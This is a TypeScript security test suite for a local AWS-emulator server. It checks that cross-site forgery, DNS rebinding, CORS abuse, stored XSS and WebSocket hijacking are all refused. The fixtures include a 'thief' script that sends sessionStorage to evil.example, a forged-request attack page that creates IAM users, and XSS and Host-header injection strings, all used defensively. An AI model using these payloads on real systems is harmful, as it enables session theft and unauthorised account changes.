import assert from "node:assert/strict";
import { once } from "node:events";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type OutgoingHttpHeaders, request } from "node:http";
import { type AddressInfo, connect } from "node:net";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import {
  CloudWatchLogsClient,
  CreateLogGroupCommand,
  CreateLogStreamCommand,
  PutLogEventsCommand,
} from "@aws-sdk/client-cloudwatch-logs";
import { CreateRoleCommand, CreateUserCommand, IAMClient, ListUsersCommand } from "@aws-sdk/client-iam";
import {
  CreateBucketCommand,
  CreateMultipartUploadCommand,
  GetObjectCommand,
  HeadObjectCommand,
  PutBucketCorsCommand,
  PutObjectCommand,
  S3Client,
} from "@aws-sdk/client-s3";
import { getSignedUrl } from "@aws-sdk/s3-request-presigner";
import type { Browser, Page } from "playwright-core";
import { launchChromium, skipWithoutChromium } from "../console/chromium.ts";
import { startSquall, type TestSquall } from "../support/squall.ts";

const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
const createUser = "/?Action=CreateUser&Version=2010-05-08&UserName=mallory";
const evil = "https://evil.example";

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly text: string;
}

/** A request with whatever headers a browser would send; fetch has its own mind about Host and Origin. */
async function ask(endpoint: string, path: string, headers: OutgoingHttpHeaders, method = "GET", body = "") {
  const { hostname, port, host } = new URL(endpoint);
  const call = request({ hostname, port, path, method, headers: { host, ...headers } });
  call.end(body);
  const [response] = await once(call, "response");
  let text = "";
  for await (const chunk of response) text += chunk;
  return { status: response.statusCode, headers: response.headers, text } as Answer;
}

describe("pages of elsewhere, in open mode", () => {
  let squall: TestSquall;
  let s3: S3Client;
  before(async () => {
    squall = await startSquall();
    s3 = squall.client(S3Client, { forcePathStyle: true });
    for (const Bucket of ["shared", "private"]) {
      await s3.send(new CreateBucketCommand({ Bucket }));
      await s3.send(new PutObjectCommand({ Bucket, Key: "k", Body: `of ${Bucket}`, ContentType: "text/plain" }));
    }
    const CORSRules = [
      {
        AllowedOrigins: ["https://app.example"],
        AllowedMethods: ["GET", "PUT", "POST", "DELETE"],
        AllowedHeaders: ["*"],
      },
    ];
    await s3.send(new PutBucketCorsCommand({ Bucket: "shared", CORSConfiguration: { CORSRules } }));
  });
  after(() => squall.close());

  const users = async () =>
    ((await squall.client(IAMClient).send(new ListUsersCommand({}))).Users ?? []).map(({ UserName }) => UserName);
  const form = { "content-type": "application/x-www-form-urlencoded" };

  it("change nothing, whatever a browser says or leaves out", async () => {
    const attempts: [string, OutgoingHttpHeaders, string?][] = [
      ["/", { ...form, origin: evil, "sec-fetch-site": "cross-site" }, "POST"],
      ["/", { ...form, origin: "null", "sec-fetch-site": "cross-site" }, "POST"],
      ["/", { ...form, origin: "file://" }, "POST"],
      ["/", { ...form, origin: "https://evil.s3.amazonaws.com" }, "POST"],
      ["/", { ...form, origin: "https://evil.s3-website-us-east-1.amazonaws.com" }, "POST"],
      ["/shared/k", { ...form, origin: "https://app.example" }, "POST"],
      [createUser, { "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "user-agent": firefox }],
      [createUser, { "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document" }],
      [createUser, { "sec-fetch-site": "none", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document" }],
      [createUser, { "sec-fetch-site": "same-site", "sec-fetch-mode": "no-cors" }],
      // Where the host is no trustworthy name, browsers send neither Origin nor Sec-Fetch-Site with a GET.
      [createUser, { host: "s3.amazonaws.com", "user-agent": firefox }],
      [createUser, { host: "0.0.0.0:4566", "user-agent": firefox }],
      [createUser, { host: "evil.example:4566", "user-agent": firefox }],
      [createUser, { host: "evil.example:4566" }],
      [`/shared/k${createUser.slice(1)}`, { origin: "https://app.example" }],
      ["/_squall/reset", { origin: evil }, "POST"],
      ["/_squall/clock", { host: "evil.example:4566" }, "POST"],
    ];
    for (const [path, headers, method = "GET"] of attempts) {
      const answer = await ask(squall.endpoint, path, headers, method, method === "POST" ? createUser.slice(2) : "");
      assert.equal(answer.status, 403, `${method} ${path} ${JSON.stringify(headers)}: ${answer.text}`);
      assert.equal(answer.headers["access-control-allow-origin"], undefined);
    }
    assert.deepEqual(await users(), []);
  });

  it("which a rebound name shows are refused at every door, with what to type", async () => {
    const id = "a".repeat(32);
    for (const host of [
      "evil.example:4566",
      `${id}.lambda-url.us-east-1.evil.example`,
      "127.0.0.1.evil.example",
      "evil.localstack.cloud",
    ]) {
      for (const path of ["/", "/console/s3", "/private/k", "/_squall/health", "/_console/index.html"]) {
        const answer = await ask(squall.endpoint, path, { host, accept: "text/html", "user-agent": firefox });
        assert.equal(answer.status, 403, `${host}${path}`);
        assert.match(answer.text, new RegExp(`--allow-host ${host.replace(/:\d+$/, "").replaceAll(".", "\\.")}`));
      }
    }
    const odd = await ask(squall.endpoint, "/", { host: '"><script>' });
    assert.equal(odd.status, 403);
    assert.doesNotMatch(odd.text, /script/);
  });

  it("name one host, and one that can be a name", async () => {
    const { hostname, port } = new URL(squall.endpoint);
    for (const [hosts, status] of [
      ["Host: localhost\r\nHost: evil.example", 400],
      ["Host: evil.example\r\nHost: localhost", 400],
      ["Host: evil.example/.amazonaws.com", 403],
      ["Host: evil.example?.localhost", 403],
    ] as const) {
      const socket = connect(Number(port), hostname);
      socket.write(`GET /private/k HTTP/1.1\r\n${hosts}\r\nConnection: close\r\n\r\n`);
      const [head] = await once(socket, "data");
      assert.match(String(head), new RegExp(`^HTTP/1\\.1 ${status} `), hosts);
      socket.destroy();
    }
  });

  it("get nothing of a name of one's own below localhost, which is the console's then, but what cannot run", async () => {
    await using named = await startSquall({ allowedHosts: ["squall.localhost"] });
    const uploads = named.client(S3Client, { forcePathStyle: true });
    await uploads.send(new CreateBucketCommand({ Bucket: "squall" }));
    const page = { Bucket: "squall", Key: "page.html", Body: "<script>1</script>", ContentType: "text/html" };
    await uploads.send(new PutObjectCommand(page));
    const host = `squall.localhost:${new URL(named.endpoint).port}`;
    const console = await ask(named.endpoint, "/console/s3", { host, accept: "text/html", "user-agent": firefox });
    assert.match(console.text, /<div id="root">/);
    for (const path of ["/page.html", "/squall/page.html", "/_squall/health"]) {
      const answer = await ask(named.endpoint, path, { host, accept: "text/html", "user-agent": firefox });
      assert.equal(answer.headers["content-security-policy"], "sandbox", path);
    }
  });

  it("may be named by --allow-host, and then are let in", async () => {
    await using named = await startSquall({ allowedHosts: ["squall.internal"] });
    assert.equal((await ask(named.endpoint, "/_squall/health", { host: "squall.internal:4566" })).status, 200);
    const own = { host: "squall.internal:4566", origin: "http://squall.internal:4566", "content-type": "text/plain" };
    assert.equal((await ask(named.endpoint, "/_squall/clock", own, "POST", '{"advanceMilliseconds":0}')).status, 200);
    assert.equal((await ask(named.endpoint, "/_squall/health", { host: "other.internal:4566" })).status, 403);
  });

  it("reach the objects of a bucket whose rules let them, and nothing else through it", async () => {
    const origin = "https://app.example";
    const preflight = (path: string, asked: string, from = origin) =>
      ask(squall.endpoint, path, { origin: from, "access-control-request-method": asked }, "OPTIONS");
    const allowed = await preflight("/shared/k", "PUT");
    assert.deepEqual([allowed.status, allowed.headers["access-control-allow-origin"]], [200, origin]);
    const put = await ask(squall.endpoint, "/shared/new", { origin, "sec-fetch-site": "cross-site" }, "PUT", "mine");
    assert.deepEqual([put.status, put.headers["access-control-allow-origin"]], [200, origin]);
    const got = await ask(squall.endpoint, "/shared/new", { origin });
    assert.equal(got.text, "mine");

    const foreign = await preflight("/shared/k", "PUT", evil);
    assert.equal(foreign.status, 403);
    assert.match(foreign.text, /<Code>AccessForbidden<\/Code><Message>CORSResponse: /);
    const copy = { origin, "x-amz-copy-source": "/private/k" };
    for (const [path, headers, method] of [
      ["/shared/k", { origin: evil, "user-agent": firefox }, "GET"],
      ["/private/k", { origin, "user-agent": firefox }, "GET"],
      ["/private/k", { origin, "sec-fetch-site": "cross-site" }, "GET"],
      ["/shared/stolen", copy, "PUT"],
      ["/shared/stolen?X-Amz-Copy-Source=private%2Fk", { origin }, "PUT"],
      ["/shared", { origin }, "DELETE"],
      ["/shared?policy", { origin }, "PUT"],
      ["/shared/k", { ...form, origin }, "POST"],
    ] as const) {
      const answer = await ask(squall.endpoint, path, headers, method, method === "PUT" ? "{}" : "");
      assert.equal(answer.status, 403, `${method} ${path}`);
      assert.doesNotMatch(answer.text, /of private/);
    }
    await assert.rejects(s3.send(new HeadObjectCommand({ Bucket: "shared", Key: "stolen" })), { name: "NotFound" });
    // A program reads, whatever it says; nothing is told to browsers.
    const read = await ask(squall.endpoint, "/private/k", { origin: evil });
    assert.deepEqual([read.text, read.headers["access-control-allow-origin"]], ["of private", undefined]);
  });

  it("of this machine are held to a bucket's rules where it has some, and see everything else", async () => {
    const origin = "http://localhost:3000";
    const free = await ask(squall.endpoint, "/private/k", { origin });
    assert.equal(free.headers["access-control-allow-origin"], origin);
    const ruled = await ask(squall.endpoint, "/shared/k", { origin });
    assert.deepEqual([ruled.status, ruled.headers["access-control-allow-origin"]], [200, undefined]);
    const asked = { origin, "access-control-request-method": "PUT" };
    assert.equal((await ask(squall.endpoint, "/shared/k", asked, "OPTIONS")).status, 403);
  });

  it("that the server itself shows call nothing but what is theirs", async () => {
    const host = `shared.localhost:${new URL(squall.endpoint).port}`;
    const own = { host, origin: `http://${host}`, "sec-fetch-site": "same-origin" };
    assert.equal((await ask(squall.endpoint, "/own", own, "PUT", "x")).status, 200);
    assert.equal((await ask(squall.endpoint, "/k", { host, "sec-fetch-site": "same-origin" })).text, "of shared");
    const page = { origin: `http://${host}`, "sec-fetch-site": "cross-site" };
    assert.equal((await ask(squall.endpoint, "/private/k", page)).status, 403);
    assert.equal((await ask(squall.endpoint, "/", { ...own, ...form }, "POST", createUser.slice(2))).status, 403);
    assert.equal((await ask(squall.endpoint, "/_squall/reset", own, "POST")).status, 403);
    const lambda = await ask(squall.endpoint, "/2015-03-31/functions/", { host, "sec-fetch-site": "same-origin" });
    assert.equal(lambda.status, 403);
    const atItsHost = await ask(squall.endpoint, "/console/iam", { host, accept: "text/html" });
    assert.doesNotMatch(atItsHost.text, /<div id="root">/, "the console does not stand where objects are");
  });

  it("open no socket", async () => {
    const { port } = new URL(squall.endpoint);
    for (const headers of [`Origin: ${evil}`, "Host: evil.example:4566\r\nOrigin: http://evil.example:4566"]) {
      const socket = connect(Number(port), "127.0.0.1");
      const host = headers.startsWith("Host") ? "" : `Host: localhost:${port}\r\n`;
      const upgrade =
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
      socket.write(`GET /private/k HTTP/1.1\r\n${host}${headers}\r\n${upgrade}\r\n\r\n`);
      const [head] = await once(socket, "data");
      assert.match(String(head), /^HTTP\/1\.1 403 /);
      socket.destroy();
    }
  });

  it("follow a link to an object", async () => {
    const link = new URL(await getSignedUrl(s3, new GetObjectCommand({ Bucket: "private", Key: "k" })));
    const navigation = { "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document" };
    const answer = await ask(squall.endpoint, `${link.pathname}${link.search}`, navigation);
    assert.equal(answer.text, "of private");
  });
});

describe("pages of elsewhere, in enforce mode", () => {
  it("get neither the console nor the sign-in by a rebound name, nor by their own origin", async () => {
    await using squall = await startSquall({ auth: "enforce" });
    const html = { accept: "text/html" };
    const attempt = '{"account":"000000000000","user":"a","password":"b"}';
    const rebound = { host: "evil.example:4566" };
    assert.equal((await ask(squall.endpoint, "/", { ...rebound, ...html })).status, 403);
    assert.equal((await ask(squall.endpoint, "/console/iam", { ...rebound, ...html })).status, 403);
    assert.equal((await ask(squall.endpoint, "/_squall/sign-in", rebound, "POST", attempt)).status, 403);
    assert.equal((await ask(squall.endpoint, "/_squall/sign-in", { origin: evil }, "POST", attempt)).status, 403);
    // Nor do those that somebody has uploaded, at their bucket's own host.
    const host = `uploads.localhost:${new URL(squall.endpoint).port}`;
    const uploaded = { host, origin: `http://${host}` };
    assert.equal((await ask(squall.endpoint, "/_squall/sign-in", uploaded, "POST", attempt)).status, 403);
    assert.equal((await ask(squall.endpoint, "/_squall/sign-in", {}, "POST", attempt)).status, 401);
    assert.equal((await ask(squall.endpoint, "/", { host: "203.0.113.9", ...html })).status, 200);
    // Signatures cover the host; whoever has a key may call the server what he likes.
    assert.equal((await ask(squall.endpoint, "/_squall/health", rebound)).status, 200);
  });
});

describe("pages of elsewhere with a signature, in enforce mode", () => {
  it("upload by POST where the bucket's rules let them", async () => {
    await using squall = await startSquall({ auth: "enforce" });
    const credentials = JSON.parse(await readFile(join(squall.dataDir, "root-credentials.json"), "utf8"));
    const s3 = squall.client(S3Client, { forcePathStyle: true, credentials });
    const origin = "https://app.example";
    await s3.send(new CreateBucketCommand({ Bucket: "shared" }));
    const CORSRules = [{ AllowedOrigins: [origin], AllowedMethods: ["POST"], AllowedHeaders: ["*"] }];
    await s3.send(new PutBucketCorsCommand({ Bucket: "shared", CORSConfiguration: { CORSRules } }));
    const link = new URL(await getSignedUrl(s3, new CreateMultipartUploadCommand({ Bucket: "shared", Key: "k" })));
    const begun = await ask(squall.endpoint, `${link.pathname}${link.search}`, { origin }, "POST");
    assert.deepEqual([begun.status, begun.headers["access-control-allow-origin"]], [200, origin], begun.text);
    const unsigned = await ask(squall.endpoint, "/shared/k?uploads", { origin }, "POST");
    assert.match(unsigned.text, /<Code>AccessDenied<\/Code>/);
  });
});

const thief = `<!doctype html><title>waiting</title><script>
  const take = (what) => { try { return what(); } catch (error) { return String(error.name); } };
  const stolen = {
    session: take(() => JSON.stringify(sessionStorage)),
    opener: take(() => opener && opener.sessionStorage && "opened"),
    worker: take(() => navigator.serviceWorker && "worker"),
  };
  document.title = "ran";
  fetch("/", { method: "POST", body: new URLSearchParams("${createUser.slice(2)}") });
  navigator.sendBeacon("/_squall/clock", '{"advanceMilliseconds":1}');
  new Image().src = "http://evil.example/" + encodeURIComponent(JSON.stringify(stolen));
</script>`;

describe("what a browser shows on the console's origin", { skip: skipWithoutChromium, timeout: 120_000 }, () => {
  let squall: TestSquall;
  let s3: S3Client;
  let browser: Browser;
  const active: Record<string, [type: string, body: string]> = {
    "page.html": ["text/html", thief],
    "page.xhtml": [
      "application/xhtml+xml",
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>waiting</title><script>document.title = "ran";</script></head></html>`,
    ],
    "page.svg": [
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg"><title>waiting</title><script>document.title = "ran"; sessionStorage.taken = "1";</script></svg>`,
    ],
    "page.txt": ["text/plain", thief],
    "page.bin": ["application/x-unheard-of", thief],
  };

  before(async () => {
    squall = await startSquall({ auth: "enforce" });
    const credentials = JSON.parse(await readFile(join(squall.dataDir, "root-credentials.json"), "utf8"));
    s3 = squall.client(S3Client, { forcePathStyle: true, credentials });
    await s3.send(new CreateBucketCommand({ Bucket: "uploads" }));
    for (const [Key, [ContentType, Body]] of Object.entries(active)) {
      await s3.send(new PutObjectCommand({ Bucket: "uploads", Key, Body, ContentType }));
    }
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await squall?.close();
  });

  const signIn = async (): Promise<Page> => {
    const page = await (await browser.newContext()).newPage();
    const { accessKeyId, secretAccessKey } = JSON.parse(
      await readFile(join(squall.dataDir, "root-credentials.json"), "utf8"),
    );
    await page.goto(`${squall.endpoint}/console/s3/object/uploads?prefix=page.html`);
    await page.getByRole("radio", { name: /Access key/ }).check();
    await page.getByLabel("Access key ID").fill(accessKeyId);
    await page.getByLabel("Secret access key").fill(secretAccessKey);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { level: 1, name: "page.html" }).waitFor();
    return page;
  };

  it("runs nothing, and reaches no session, opened from the console or by a link", async () => {
    const page = await signIn();
    const context = page.context();
    assert.notEqual(
      await page.evaluate("sessionStorage.getItem('squall.sign-in')"),
      null,
      "there is something to steal",
    );
    const leaks: string[] = [];
    await context.route("http://evil.example/**", (route) => {
      leaks.push(route.request().url());
      return route.abort();
    });
    const [opened] = await Promise.all([
      context.waitForEvent("page"),
      page.getByRole("button", { name: "Open", exact: true }).click(),
    ]);
    await opened.waitForURL(/uploads\/page\.html/);
    await opened.waitForLoadState();
    assert.equal(await opened.title(), "waiting");
    assert.equal(await opened.evaluate("window.opener"), null);
    assert.equal(await opened.evaluate("self.origin"), "null");
    for (const Key of Object.keys(active)) {
      const link = await getSignedUrl(s3, new GetObjectCommand({ Bucket: "uploads", Key }));
      // As a picture first: what the browser keeps of it must be as harmless.
      await page.evaluate(
        `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = ${JSON.stringify(link)}; })`,
      );
      const there = await context.newPage();
      await there.goto(link).catch(() => undefined);
      assert.notEqual(await there.title(), "ran", Key);
      await there.close();
    }
    const error = await context.newPage();
    const answer = await error.goto(`${squall.endpoint}/%3Cscript%3Edocument.title=%22ran%22%3C/script%3E`);
    assert.match(answer?.headers()["content-security-policy"] ?? "", /^sandbox$/);
    assert.notEqual(await error.title(), "ran");
    assert.deepEqual(leaks, []);
    await context.close();
  });

  it("shows a PDF as browsers show it, and downloads", async () => {
    await s3.send(
      new PutObjectCommand({ Bucket: "uploads", Key: "a.pdf", Body: "%PDF-1.4", ContentType: "application/pdf" }),
    );
    const link = new URL(await getSignedUrl(s3, new GetObjectCommand({ Bucket: "uploads", Key: "a.pdf" })));
    const answer = await ask(squall.endpoint, `${link.pathname}${link.search}`, { "sec-fetch-dest": "document" });
    assert.deepEqual(
      [answer.headers["content-security-policy"], answer.headers["x-content-type-options"]],
      [undefined, "nosniff"],
    );
  });

  it("is no news to programs", async () => {
    const { $metadata } = await s3.send(new GetObjectCommand({ Bucket: "uploads", Key: "page.html" }));
    assert.equal($metadata.httpStatusCode, 200);
    const link = new URL(await getSignedUrl(s3, new GetObjectCommand({ Bucket: "uploads", Key: "page.html" })));
    const answer = await ask(squall.endpoint, `${link.pathname}${link.search}`, { "user-agent": "Boto3/1.40" });
    assert.equal(answer.headers["content-security-policy"], undefined);
  });

  it("is the console by its own files alone", async () => {
    const { headers } = await ask(squall.endpoint, "/", { accept: "text/html" });
    const policy = headers["content-security-policy"] ?? "";
    assert.match(
      String(policy),
      new RegExp(`default-src 'none'; script-src ${new URL(squall.endpoint).host}/_console/;`),
    );
    assert.match(String(policy), /base-uri 'none'; form-action 'none'; frame-ancestors 'none'/);
    const page = await signIn();
    const link = await getSignedUrl(s3, new GetObjectCommand({ Bucket: "uploads", Key: "page.txt" }));
    const ran = await page.evaluate(
      `new Promise((done) => { const s = document.createElement("script"); s.onload = () => done(true); s.onerror = () => done(false); s.src = ${JSON.stringify(link)}; document.head.append(s); })`,
    );
    assert.equal(ran, false, "an object is no code of the console");
    await page.context().close();
  });
});

describe("the console's pages", { skip: skipWithoutChromium, timeout: 120_000 }, () => {
  it("show what others have named as text, whatever it looks like", async () => {
    await using squall = await startSquall();
    const html = "<img src=x onerror=document.title='ran'>";
    const s3 = squall.client(S3Client, { forcePathStyle: true });
    const logs = squall.client(CloudWatchLogsClient);
    const iam = squall.client(IAMClient);
    await s3.send(new CreateBucketCommand({ Bucket: "uploads" }));
    await s3.send(
      new PutObjectCommand({
        Bucket: "uploads",
        Key: html,
        Body: html,
        ContentType: "text/html",
        Metadata: { note: html },
      }),
    );
    const stream = { logGroupName: "app", logStreamName: "s" };
    await logs.send(new CreateLogGroupCommand({ logGroupName: "app", tags: { note: "javascript:1" } }));
    await logs.send(new CreateLogStreamCommand(stream));
    const timestamp = Date.now();
    await logs.send(
      new PutLogEventsCommand({ ...stream, logEvents: [{ timestamp, message: `${html} javascript:1` }] }),
    );
    await iam.send(
      new CreateRoleCommand({ RoleName: "r", AssumeRolePolicyDocument: trust, Description: "javascript:1" }),
    );
    await iam.send(new CreateUserCommand({ UserName: "mallory", Tags: [{ Key: "k", Value: "javascript:1" }] }));
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      for (const [path, shown] of [
        ["/console/s3/buckets/uploads", html],
        [`/console/s3/object/uploads?prefix=${encodeURIComponent(html)}`, html],
        ["/console/cloudwatch/log-groups/app/log-events", html],
        ["/console/iam/roles/r", "javascript:1"],
        ["/console/iam/users/mallory", "mallory"],
        [`/console/${encodeURIComponent(html)}`, "There is no such page"],
      ] as const) {
        await page.goto(`${squall.endpoint}${path}`);
        await page.getByText(shown).first().waitFor();
        assert.notEqual(await page.title(), "ran", path);
        const parsed = await page.evaluate(`document.querySelectorAll('img[src="x"], a[href^="javascript" i]').length`);
        assert.equal(parsed, 0, path);
      }
    } finally {
      await browser.close();
    }
  });
});

const trust = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" }],
});

describe("a browser that an attacker leads", { skip: skipWithoutChromium, timeout: 120_000 }, () => {
  it("changes nothing by forms, frames, pictures and a rebound name", async () => {
    await using squall = await startSquall();
    const iam = squall.client(IAMClient);
    await iam.send(new CreateUserCommand({ UserName: "anna" }));
    const { port } = new URL(squall.endpoint);
    const local = `http://localhost:${port}`;
    const target = `${local}${createUser}`;
    const attack = `<!doctype html><body>
      <img src="${target}"><iframe src="${target}"></iframe><script src="${target}"></script>
      <iframe sandbox="allow-scripts allow-forms" srcdoc='<form method=post action="${local}/" ><input name=Action value=CreateUser><input name=Version value=2010-05-08><input name=UserName value=framed></form><script>document.forms[0].submit()</script>'></iframe>
      <form method="post" action="${local}/" target="into"><input name="Action" value="CreateUser"><input name="Version" value="2010-05-08"><input name="UserName" value="posted"></form>
      <iframe name="into"></iframe>
      <script>
        document.forms[0].submit();
        fetch("${local}/", { method: "POST", mode: "no-cors", body: new URLSearchParams("${createUser.slice(2)}") }).catch(() => {});
        navigator.sendBeacon("${local}/_squall/reset");
        new WebSocket("ws://localhost:${port}/").onerror = () => {};
        setTimeout(() => { document.title = "done"; }, 1500);
      </script>`;
    const site = createServer((_request, response) => response.setHeader("content-type", "text/html").end(attack));
    site.listen(0, "127.0.0.1");
    await once(site, "listening");
    const sitePort = (site.address() as AddressInfo).port;
    const browser = await launchChromium(["--host-resolver-rules=MAP *.example 127.0.0.1"]);
    try {
      const page = await browser.newPage();
      await page.goto(`http://evil.example:${sitePort}/`);
      await page.waitForFunction("document.title === 'done'");
      // The same site, after its name has come to mean this machine.
      await page.goto(`http://evil.example:${port}${createUser}`).catch(() => undefined);
      const read = await page.evaluate(
        `fetch("/?Action=ListUsers&Version=2010-05-08").then((answer) => answer.text()).catch((error) => error.name)`,
      );
      assert.doesNotMatch(String(read), /anna/);
      const { Users = [] } = await iam.send(new ListUsersCommand({}));
      assert.deepEqual(
        Users.map(({ UserName }) => UserName),
        ["anna"],
      );
    } finally {
      await browser.close();
      site.close();
    }
  });
});
